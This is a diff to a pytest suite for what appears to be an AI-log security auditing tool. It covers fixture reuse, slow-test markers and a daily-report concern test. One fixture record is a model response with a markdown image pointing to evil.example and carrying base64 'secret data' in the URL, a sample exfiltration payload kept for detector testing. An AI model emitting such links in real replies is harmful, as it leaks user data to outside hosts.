@@ -18,14 +18,31 @@ PROMPTS = {
 }
 
 
-@pytest.fixture
-def loaded(cli, write_jsonl, db_path):
+@pytest.fixture(scope="module")
+def template(tmp_path_factory):
+    """The logs ingested once per module; each test gets a copy of the file."""
+    from typer.testing import CliRunner
+
+    from aimon.cli import app
+
+    tmp = tmp_path_factory.mktemp("security-db")
     records = [request(request_id=rid, prompt=p, user_id="alice@example.com" if rid != "r4" else "bob",
                        timestamp=f"2026-11-01T10:0{i}:00.000Z")
                for i, (rid, p) in enumerate(PROMPTS.items())]
     records.append(request(request_id="r5", prompt="hi", timestamp="2026-11-01T10:09:00.000Z",
                            response="Done ![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)"))
-    assert cli("ingest", write_jsonl("logs.jsonl", records)).exit_code == 0
+    logs = tmp / "logs.jsonl"
+    logs.write_text("".join(json.dumps(r) + "\n" for r in records))
+    result = CliRunner().invoke(app, ["ingest", str(logs), "--db", str(tmp / "template.duckdb")])
+    assert result.exit_code == 0, result.output
+    return tmp / "template.duckdb"
+
+
+@pytest.fixture
+def loaded(template, db_path):
+    import shutil
+
+    shutil.copy(template, db_path)
     return db_path
 
 
@@ -53,6 +70,7 @@ def test_findings_are_kept_and_a_second_run_scans_nothing(cli, loaded):
     assert second["scan"] is None
     assert second["by_category"] == first["by_category"]
 
+@pytest.mark.slow
 
 def test_new_rows_are_scanned_and_a_new_detector_version_rescans(cli, loaded, write_jsonl, monkeypatch):
     audit(cli)
@@ -67,6 +85,7 @@ def test_new_rows_are_scanned_and_a_new_detector_version_rescans(cli, loaded, wr
     versions = stored(loaded, "SELECT DISTINCT detector_version FROM security_findings WHERE family <> 'abuse'")
     assert versions == [(scan.DETECTOR_VERSION,)]
 
+@pytest.mark.slow
 
 def test_rescan_replaces_rather_than_duplicates(cli, loaded):
     audit(cli)
@@ -85,11 +104,13 @@ def test_gate_exit_codes(cli, loaded):
     assert "Traceback" not in bad.output
 
 
+@pytest.mark.slow
 def test_gate_passes_on_clean_logs(cli, write_jsonl):
     cli("ingest", write_jsonl("clean.jsonl", [request(request_id="c1")]))
     assert audit(cli, "--fail-on", "any").exit_code == 0
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("fmt", ["table", "markdown", "json", "csv"])
 def test_no_raw_pii_or_user_id_in_any_format(cli, loaded, fmt):
     out = audit(cli, "-f", fmt).stdout
@@ -126,6 +147,7 @@ def test_no_store_and_read_only_databases_compute_in_memory(cli, loaded, monkeyp
     assert data["requests_flagged"] == 3 and "read-only" in data["notes"][0]
     assert stored(loaded) == []
 
+@pytest.mark.slow
 
 def test_an_interrupted_store_leaves_the_tables_as_they_were(cli, loaded, monkeypatch):
     from aimon.store import security as store
@@ -140,6 +162,7 @@ def test_an_interrupted_store_leaves_the_tables_as_they_were(cli, loaded, monkey
     assert stored(loaded) == []
     assert stored(loaded, "SELECT count(*) FROM security_scanned") == [(0,)]
 
+@pytest.mark.slow
 
 def test_config_errors_are_one_line(cli, loaded, tmp_path):
     cfg = tmp_path / "aimon.toml"
@@ -150,9 +173,21 @@ def test_config_errors_are_one_line(cli, loaded, tmp_path):
     r = audit(cli, "--config", cfg)
     assert r.exit_code == 2 and "requests_per_minute" in r.stderr
 
+@pytest.mark.slow
 
 def test_allowed_hosts_from_the_config(cli, loaded, tmp_path):
     cfg = tmp_path / "aimon.toml"
     cfg.write_text("[security]\nallowed_hosts = ['evil.example']\n")
     data = json.loads(audit(cli, "-f", "json", "--config", cfg).stdout)
     assert "exfiltration" not in {r["family"] for r in data["by_category"]}
+
+
+def test_the_daily_report_names_new_high_findings_as_a_concern(cli, loaded):
+    def concerns():
+        data = json.loads(cli("report", "daily", "--date", "2026-11-01", "-f", "json").stdout)
+        return [c for c in data["concerns"] if c["code"] == "security_high"]
+
+    assert concerns() == []  # no audit has run
+    audit(cli)
+    [concern] = concerns()
+    assert "3 request(s)" in concern["text"] and "instruction_override 1" in concern["text"]
